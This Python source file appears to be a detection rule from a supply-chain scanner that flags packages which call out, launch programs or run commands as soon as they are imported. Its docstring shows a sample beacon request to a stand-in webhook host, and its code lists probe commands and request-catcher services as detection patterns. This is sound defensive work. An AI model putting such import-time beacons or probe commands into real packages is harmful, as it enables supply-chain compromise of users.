"""What it sees
    A network request that a module makes while it is being imported, without being asked: to a request catcher or
    chat webhook, a paste site or file host, a bare IP address, or anywhere else.

Why it matters
    `import` is not consent. Beacons of dependency-confusion packages and first-stage loaders sit in `__init__.py`
    because an import is the first thing that happens.

Example
    import requests
    requests.get("https://webhook.test/3f1c")          # at module level of a package

What to do
    Do not import it. If it happened, the author of the package knows your address and that you use it.

False alarms
    Scripts that are meant to be run (not imported) act at module level; only telling destinations count there.

References
    ATT&CK T1195.001, T1071.001 (Web Protocols).
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import (
    PROOF,
    Place,
    beacons,
    command_of,
    defanged,
    once,
    place,
    sendings,
    short,
    starts_process,
)
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_vocabulary import STANDARD_MODULES
from lazaretto.parse.py_words import terms
from lazaretto.parse.python import MODULE, PythonModule

_STARTS = re.compile(rb"\.(?:exe|scr|bat|cmd|vbs|ps1|hta|msi)\b", re.IGNORECASE)
_LAUNCHES = N_("starts a program as soon as it is imported: {command}")
_CALLS = N_("calls {address} as soon as it is imported")
_BROWSES = N_("opens a web page as soon as it is imported: {address}")
_SPAWNS = N_("starts another Python as soon as it is imported: {command}")
_PROBE = N_("runs a command as soon as it is imported: {command}")

_CATCHER = N_("calls {address}, a place that only collects requests")

_CHAT = re.compile(r"discord|telegram|slack|office\.com|/api/webhooks/|ngrok|loca\.lt|serveo|trycloudflare")
"""Places where people are told something; and tunnels, which developers use."""
_CODE = re.compile(r"(?:python[\w.]*|%PYTHON%)['\"]?\s+-c\s")
_PROBES = re.compile(
    r"^\s*(?:calc(?:\.exe)?|notepad(?:\.exe)?|whoami|touch\s|net\s+user|attrib\s+\+h|taskkill\s|reg\s+add)(?:\s|$)|>\s*/tmp/\w|pwned",
    re.IGNORECASE,
)
_OPENING = terms(b"webbrowser.open")
_COLLECTORS = terms(
    b"webhook",
    b"oast",
    b"burpcollab",
    b"interact",
    b"pipedream",
    b"requestbin",
    b"ngrok",
    b"telegram",
    b"canarytokens",
    b"ceye",
    b"dnslog",
    b"beeceptor",
)


def check(view: PythonModule) -> Iterator[Match]:
    """Yield requests at import time, one an address."""
    if view.is_setup or view.is_test:
        return
    if view.blob.name == "__init__.py" and view.speaks("process"):
        yield from _starts(view)
    if view.mentions(_OPENING) and not view.is_side:
        yield from _browses(view)
    if not view.speaks("net"):
        return
    if not (view.blob.name == "__init__.py" or _hints(view)):
        return
    seen: set[object] = set()
    for sending in sendings(view):
        if (
            sending.place is Place.DROP
            and sending.how == "http"
            and view.phase(sending.call.scope) is Phase.RUN
            and sending.address.startswith("http")
            and not _CHAT.search(sending.address)
            and once(seen, sending.address)
        ):
            yield Match(
                _CATCHER,
                sending.call.line,
                sending.call.column,
                params={"address": defanged(sending.address)},
                excerpt=view.quote(sending.call.line),
                phase=Phase.RUN,
            )
        if (
            view.phase(sending.call.scope) is Phase.RUN
            or sending.place <= Place.LOCAL
            or not once(seen, sending.address)
        ):
            continue
        severity, confidence = Severity.LOW, Confidence.MEDIUM
        if sending.place is Place.DROP or beacons(view, sending):
            severity, confidence = Severity.HIGH, Confidence.HIGH
        elif view.blob.name == "__init__.py":
            severity = Severity.MEDIUM
        yield Match(
            _CALLS,
            sending.call.line,
            sending.call.column,
            params={"address": defanged(sending.address)},
            excerpt=view.quote(sending.call.line),
            severity=severity,
            confidence=confidence,
            phase=view.phase(sending.call.scope),
            layers=sending.call.layers,
        )


def _starts(view: PythonModule) -> Iterator[Match]:
    for call in view.facts.calls:
        if not starts_process(call) or not view.unasked(call.scope):
            continue
        command = command_of(call)
        launches = _STARTS.search(command.encode("utf-8", "replace")) is not None
        spawns = _CODE.search(command) is not None and "import" in command and _foreign(view, command)
        if launches or spawns or _PROBES.search(command):
            yield Match(
                _LAUNCHES if launches else _SPAWNS if spawns else _PROBE,
                call.line,
                call.column,
                params={"command": short(command)},
                excerpt=view.quote(call.line),
                severity=Severity.HIGH if launches or PROOF.search(command) else Severity.MEDIUM,
                confidence=Confidence.HIGH if PROOF.search(command) else Confidence.MEDIUM,
                phase=view.phase(call.scope),
                layers=call.layers,
            )
            return


_IMPORTED = re.compile(r"\b(?:import|from)\s+(\w+)")


def _foreign(view: PythonModule, command: str) -> bool:
    """Tell whether `python -c` is to load a package that is neither this one nor of the standard library."""
    own = set(view.path.split("/"))
    names = set(_IMPORTED.findall(command))
    return any(name not in STANDARD_MODULES and name not in own and f"{name}.py" not in own for name in names)


def _browses(view: PythonModule) -> Iterator[Match]:
    for call in view.facts.calls:
        if (
            call.name.startswith("webbrowser.open")
            and call.scope == MODULE
            and call.arg(0, "url").shape.startswith("http")
            and place(call.arg(0, "url").shape) > Place.LOCAL
        ):
            yield Match(
                _BROWSES,
                call.line,
                call.column,
                params={"address": defanged(call.arg(0, "url").shape)},
                excerpt=view.quote(call.line),
                phase=Phase.IMPORT,
            )
            return


def _hints(view: PythonModule) -> bool:
    return view.mentions(_COLLECTORS)


RULE = Rule(
    id="py/import-time-call",
    title=N_("Calls out as soon as it is imported"),
    view=PythonModule,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    phase=Phase.IMPORT,
    role=Role.SEND,
    check=check,
    doc=__doc__ or "",
    techniques=("T1195.001", "T1071.001"),
)
